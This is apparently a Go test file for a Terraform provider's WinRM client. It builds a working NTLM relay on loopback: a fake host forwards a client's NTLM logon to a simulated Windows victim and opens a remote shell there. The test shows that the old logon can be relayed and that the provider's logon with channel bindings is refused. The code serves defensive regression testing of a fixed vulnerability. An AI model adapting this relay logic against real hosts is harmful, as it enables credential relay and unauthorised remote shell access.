package remote

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"io"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	azure "github.com/Azure/go-ntlmssp"
	"github.com/masterzen/winrm"

	"github.com/mssqlifi/terraform-provider-mssqlifi/internal/contract"
	"github.com/mssqlifi/terraform-provider-mssqlifi/internal/winsim"
	"github.com/mssqlifi/terraform-provider-mssqlifi/internal/winsim/certs"
	"github.com/mssqlifi/terraform-provider-mssqlifi/internal/winsim/host"
)

// relayHost is a fake WinRM host: it answers the client's NTLM legs with those of a
// real (simulated) victim host, on one TLS connection to the victim per client
// connection, and once the victim accepts the relayed logon it opens a shell there
// as the client's user.
type relayHost struct {
	victim   string      // host:port of the victim's HTTPS listener
	accepted atomic.Bool // the victim accepted a relayed AUTHENTICATE
	shell    atomic.Bool // and then opened a shell for the attacker
}

type relayConnKey struct{}

type relayConn struct {
	up *tls.Conn
	br *bufio.Reader
}

func (rh *relayHost) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	_, _ = io.Copy(io.Discard, r.Body)
	authz := r.Header.Get("Authorization")
	st, ok := r.Context().Value(relayConnKey{}).(*relayConn)
	if !ok {
		http.Error(w, "the relay's connection state is missing from the request context", http.StatusInternalServerError)
		return
	}
	if authz == "" {
		w.Header().Set("WWW-Authenticate", "Negotiate")
		w.WriteHeader(http.StatusUnauthorized)
		return
	}
	if st.up == nil {
		up, err := tls.Dial("tcp", rh.victim, &tls.Config{InsecureSkipVerify: true}) //nolint:gosec // the attacker does not care
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		st.up, st.br = up, bufio.NewReader(up)
	}
	resp, err := st.post(rh.victim, authz, nil)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadGateway)
		return
	}
	if v := resp.Header.Get("WWW-Authenticate"); v != "" {
		w.Header().Set("WWW-Authenticate", v)
	}
	if resp.StatusCode != http.StatusUnauthorized {
		rh.accepted.Store(true)
		create := winrm.NewOpenShellRequest("https://"+rh.victim+"/wsman", winrm.DefaultParameters)
		if resp, err := st.post(rh.victim, "", []byte(create.String())); err == nil && resp.StatusCode == http.StatusOK {
			rh.shell.Store(true)
		}
	}
	// Whatever happened, the client learns nothing useful.
	w.WriteHeader(http.StatusUnauthorized)
}

func (st *relayConn) post(hostport, authz string, body []byte) (*http.Response, error) {
	req, _ := http.NewRequest(http.MethodPost, "https://"+hostport+"/wsman", bytes.NewReader(body))
	req.Header.Set("Content-Type", soapContentType)
	if authz != "" {
		req.Header.Set("Authorization", authz)
	}
	if err := req.Write(st.up); err != nil {
		return nil, err
	}
	resp, err := http.ReadResponse(st.br, req)
	if err != nil {
		return nil, err
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp, nil
}

// startRelay starts the victim (a default simulated host with the given CBT
// hardening) and the fake host in front of it, with a certificate valid for the
// fake host's own name; it returns the fake host's address and CA.
func startRelay(t *testing.T, cbt string) (*relayHost, string, []byte) {
	t.Helper()
	cfg := simConfig()
	cfg.Address = "127.0.0.61"
	cfg.WinRM.CBTHardeningLevel = cbt
	sim, err := winsim.Start(&winsim.Config{Hosts: []host.HostConfig{cfg}}, winsim.Options{CertDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sim.Close() })
	rh := &relayHost{victim: sim.Info().Hosts[0].WinRMHTTPS}

	caPEM, cert := certs.ForLoopback(t, "attacker")
	l, err := tls.Listen("tcp", "127.0.0.62:0", &tls.Config{Certificates: []tls.Certificate{cert}})
	if err != nil {
		t.Fatal(err)
	}
	hs := &http.Server{Handler: rh, ConnContext: func(ctx context.Context, _ net.Conn) context.Context {
		return context.WithValue(ctx, relayConnKey{}, &relayConn{})
	}}
	go func() { _ = hs.Serve(l) }()
	t.Cleanup(func() { _ = hs.Close() })
	return rh, l.Addr().String(), caPEM
}

// legacyLogon is the logon the provider sent before: Azure/go-ntlmssp's NTLMv2,
// with no MIC, no channel bindings and no target name, over TLS to addr.
func legacyLogon(t *testing.T, addr string, caPEM []byte) {
	t.Helper()
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(caPEM)
	c, err := tls.Dial("tcp", addr, &tls.Config{RootCAs: pool, ServerName: "attacker"})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	st := &relayConn{up: c, br: bufio.NewReader(c)}
	neg, _ := azure.NewNegotiateMessage("", "")
	resp, err := st.post(addr, "Negotiate "+base64.StdEncoding.EncodeToString(neg), nil)
	if err != nil {
		t.Fatal(err)
	}
	_, tok, _ := strings.Cut(resp.Header.Get("WWW-Authenticate"), " ")
	chal, err := base64.StdEncoding.DecodeString(tok)
	if err != nil || len(chal) == 0 {
		t.Fatalf("no challenge relayed: %q", resp.Header.Get("WWW-Authenticate"))
	}
	auth, err := azure.NewAuthenticateMessage(chal, testUser, testPassword, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.post(addr, "Negotiate "+base64.StdEncoding.EncodeToString(auth), nil); err != nil {
		t.Fatal(err)
	}
}

// The relay attack of issue 7 on loopback: a fake host takes the provider's NTLM
// logon and replays it to a real host. The old logon (no MIC, no channel bindings,
// no target name) gets the attacker a shell on a host with Windows' default
// CbtHardeningLevel=Relaxed; the provider's logon is refused there and under Strict.
func TestRelayedLogonIsRefused(t *testing.T) {
	t.Run("old logon relayed (the attack is real)", func(t *testing.T) {
		rh, addr, ca := startRelay(t, "relaxed")
		legacyLogon(t, addr, ca)
		if !rh.accepted.Load() || !rh.shell.Load() {
			t.Fatalf("the relay of a logon without bindings failed (accepted %v, shell %v): the test proves nothing", rh.accepted.Load(), rh.shell.Load())
		}
	})
	for _, tc := range []struct{ name, cbt, spn string }{
		{"provider logon, relaxed", "relaxed", ""},
		{"provider logon, strict", "strict", ""},
		// The user named the victim's SPN but reached the fake host: the channel
		// bindings of the fake host's certificate still give the relay away.
		{"provider logon with the victim's SPN, relaxed", "relaxed", "HTTP/sql01"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rh, addr, ca := startRelay(t, tc.cbt)
			h, _, _ := net.SplitHostPort(addr)
			cfg := Config{Host: h, Port: portOf(t, addr), HTTPS: true, CACert: ca, TLSServerName: "attacker",
				Username: testUser, Password: testPassword, Timeout: 10 * time.Second, SPN: tc.spn}
			host, err := New(cfg)
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			_, err = host.SetRight(ctx, contract.SetRightParams{Right: contract.RightManageVolume, SID: "S-1-1-0", Grant: true})
			if e := asError(t, err); e.Kind != KindAuth {
				t.Fatalf("through the fake host: %v (kind %d), want an authentication failure", err, e.Kind)
			}
			if rh.accepted.Load() || rh.shell.Load() {
				t.Fatalf("the victim accepted the relayed logon (shell %v)", rh.shell.Load())
			}
		})
	}
}
